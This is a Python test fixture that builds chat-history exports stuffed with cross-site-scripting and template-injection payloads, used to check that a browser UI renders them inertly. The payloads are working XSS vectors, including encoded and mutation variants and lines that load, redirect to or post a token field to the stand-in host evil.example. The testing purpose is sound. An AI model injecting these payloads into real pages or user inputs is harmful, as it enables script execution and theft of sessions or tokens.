"""Exports that try to be executed: what they carry stands in titles, names, ids, messages and file names.

Each payload would call `loomHit`, load something from elsewhere, or change the page. Shared by test_xss.py and, as the
model of the scripted provider (`Script(content="tests.browser.payloads:answer")`), by its answers.
"""

import json
import re
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

from tests.exports import chatgpt_conversation

PAYLOADS = (
    "<script>loomHit(1)</script>",
    "</script><script>loomHit(2)</script>",
    "<img src=x onerror=loomHit(3)>",
    '"><svg/onload=loomHit(4)>',
    "' onmouseover='loomHit(5)' autofocus onfocus='loomHit(6)",
    "javascript:loomHit(7)//",
    "[a link](javascript:loomHit(8))",
    "[another](  JaVaScRiPt&colon;loomHit(9))",
    "![a picture](https://evil.example/picture.png)",
    "<https://evil.example/><iframe srcdoc='<script>parent.loomHit(10)</script>'></iframe>",
    "{{7*777}} ${7*777} {% include 'x' %} #{7*777} <%= 7*777 %>",
    "&lt;script&gt;loomHit(11)&lt;/script&gt; &#60;img src=x onerror=loomHit(12)&#62;",
    "<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/ id=settings><input name=token><button formaction=javascript:loomHit(13)>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "\u202etxt.exe\u202c\u2066<b onclick=loomHit(14)>\u2069 \ufeff\u200b\u2028loomHit(15)\u2029",
    "--><!--><script>loomHit(16)</script><![CDATA[<script>loomHit(17)</script>]]>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=loomHit(18)&gt;'>",
    "data:text/html,<script>loomHit(19)</script>",
    "\\u003cscript\\u003eloomHit(20)\\u003c/script\\u003e %3Cscript%3EloomHit(21)%3C/script%3E",
    "＜script＞loomHit(22)＜/script＞ <ſcript>loomHit(23)</ſcript>",
    "<details open ontoggle=loomHit(24)><template><slot name=x></template><a id=page href=javascript:loomHit(25)>x</a>",
)
ENTITY, PERSON = PAYLOADS[0], PAYLOADS[1]
"""What the two who talk are called."""
MULTIPLIED = str(7 * 777)
"""What a template would make of one of them."""

_BEGINS = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
_REF = re.compile(r"\[[0-9a-f]{8,} (m\d+)")


def said_about(payload: str) -> str:
    """A sentence that an engine keeps: something of a person's life, with a payload in it."""
    return (
        f"My sister {payload} moved to Lisbon last week, and I finally told her that I love her and miss her {payload}."
    )


def loom_standard() -> bytes:
    """A Loom Standard export; every text in it, ids too, holds a payload."""
    conversations = [_conversation(number, payload) for number, payload in enumerate(PAYLOADS)]
    export = {
        "format": "loom-standard",
        "version": 1,
        "originPlatform": PAYLOADS[2],
        "conversations": conversations,
    }
    return json.dumps(export).encode()


def _conversation(number: int, payload: str) -> dict[str, Any]:
    at = (_BEGINS + timedelta(days=number)).isoformat()
    texts = (
        (("user", said_about(payload)), ("assistant", f"{payload}\n\n```html\n{payload}\n```\n\n> {payload}")) * 2
    )[:3]
    return {
        "id": f"{number}{payload}",
        "title": payload,
        "createdAt": at,
        "updatedAt": at,
        "messages": [
            {
                "id": f"{number}-{place}{payload}",
                "role": role,
                "content": text,
                "createdAt": at,
                "model": payload,
                "reasoning": payload,
            }
            for place, (role, text) in enumerate(texts)
        ],
    }


def chatgpt() -> bytes:
    """A ChatGPT export of the same."""
    return json.dumps(
        [
            chatgpt_conversation(
                f"c{number}{payload}",
                [("user", said_about(payload)), ("assistant", payload), ("user", payload)],
                _BEGINS + timedelta(days=40 + number),
                payload,
            )
            for number, payload in enumerate(PAYLOADS)
        ]
    ).encode()


def answer(body: Mapping[str, Any]) -> str:
    """The text of the answer to one chat completion request: payloads wherever a text is asked for."""
    asked, record = body["messages"][0]["content"], body["messages"][1]["content"]
    found = [payload for payload in PAYLOADS if payload in record]
    payload = next((one for one in found if one not in (ENTITY, PERSON)), PERSON)
    told = f"{PERSON} told me that her sister {payload} moved to Lisbon last week, and that she is missed {payload}."
    refs = list(dict.fromkeys(_REF.findall(record)))
    if '"memory"' in asked:
        entry = {"title": payload, "date": _date(record), "prose": told, "evidence": refs[:2]}
        return json.dumps({"memory": [entry]})
    if '"bullets"' in asked:
        return json.dumps({"bullets": [{"text": told, "refs": refs[:1]}]})
    return json.dumps(_facts(found, refs))


def _facts(found: list[str], refs: list[str]) -> dict[str, object]:
    common = {"confidence": 0.95, "memories": refs}
    nodes = [{"type": "person", "name": one, "description": one, **common} for one in found]
    edges = [{"from": one, "to": PERSON, "type": "sister_of", "evidence": one, **common} for one in found]
    return {"nodes": nodes, "edges": edges}


def _date(material: str) -> str:
    found = re.search(r"\b2026-\d\d-\d\d\b", material)
    return found[0] if found else "2026-03-02"
